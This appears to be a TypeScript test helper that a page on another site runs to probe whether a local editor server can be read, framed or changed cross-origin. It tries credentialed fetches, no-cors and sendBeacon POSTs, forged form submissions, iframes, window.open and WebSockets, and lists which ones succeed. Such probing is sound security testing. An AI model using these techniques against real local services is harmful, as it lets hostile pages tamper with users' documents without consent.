/** What a page is told that tries to get into an editor: more than any page can know. */
export interface Target {
  /** of the editor */
  origin: string;
  /** of its page, see `editorPath` */
  editor: string;
  /** of its requests, see `apiPath` */
  api: string;
  tokenHeader: string;
  token: string;
  /** a picture of the site */
  picture: string;
  /** the body of a request that changes the document */
  change: string;
}

/**
 * Tries the ways that a page of any site has into an editor on the same machine. It runs in that page.
 *
 * @returns the names of those that worked
 */
export async function robEditor({
  origin,
  editor,
  api,
  tokenHeader,
  token,
  picture,
  change,
}: Target): Promise<string[]> {
  const headers = { [tokenHeader]: token, 'Content-Type': 'application/json' };
  const plain = { method: 'POST', mode: 'no-cors', credentials: 'include' } as const;
  const ask = async (path: string, init?: RequestInit) =>
    (await fetch(origin + path, { credentials: 'include', ...init })).status === 200;

  function load(tag: 'img' | 'script', path: string): Promise<boolean> {
    const element = document.createElement(tag);
    return new Promise((resolve) => {
      element.addEventListener('load', () => resolve(true));
      element.addEventListener('error', () => resolve(false));
      element.setAttribute('src', origin + path);
      document.body.append(element);
    });
  }

  function frame(path: string, form?: HTMLFormElement): Promise<boolean> {
    const element = document.createElement('iframe');
    element.name = 'target';
    return new Promise((resolve) => {
      element.addEventListener('load', () => {
        resolve(Boolean(element.contentDocument?.querySelector('main, script')));
      });
      if (!form) element.src = origin + path;
      document.body.append(element);
      if (form) form.submit();
    });
  }

  function send(path: string): Promise<boolean> {
    const form = document.createElement('form');
    Object.assign(form, { action: origin + path, method: 'post', target: 'target' });
    document.body.append(form);
    return frame(path, form);
  }

  const ways: Record<string, () => Promise<boolean>> = {
    'read the document': () => ask(`${api}document`, { headers }),
    'change the document': () => ask(`${api}changes`, { method: 'POST', headers, body: change }),
    'read a page': () => ask('/'),
    'change without asking': () => fetch(`${origin}${api}undo`, plain).then(() => false),
    'send a form': () => send(`${api}undo`),
    'show a picture': () => load('img', picture),
    'run its code': () => load('script', `${editor}entry-editor.js`),
    'frame the editor': () => frame(editor),
    'frame a page': () => frame('/'),
    'frame a widget': () => frame('/_widget?provider=none'),
    'draw a block': () => ask('/_drawings/text/0'),
    'reach into its window': async () => {
      const opened = window.open(origin + editor);
      await new Promise((resolve) => {
        setTimeout(resolve, 500);
      });
      try {
        return Boolean(opened?.document.querySelector('script'));
      } finally {
        opened?.close();
      }
    },
    'connect to it': () => {
      const socket = new WebSocket(`${origin.replace('http', 'ws')}${api}document`);
      return new Promise((resolve) => {
        socket.addEventListener('open', () => resolve(true));
        socket.addEventListener('error', () => resolve(false));
      });
    },
    // Whether it did something is seen in the file.
    'send without waiting': () => {
      navigator.sendBeacon(`${origin}${api}undo`, new Blob([change], { type: 'text/plain' }));
      return Promise.resolve(false);
    },
  };
  const worked: string[] = [];
  for (const [name, way] of Object.entries(ways)) {
    if (await way().catch(() => false)) worked.push(name);
  }
  return worked;
}
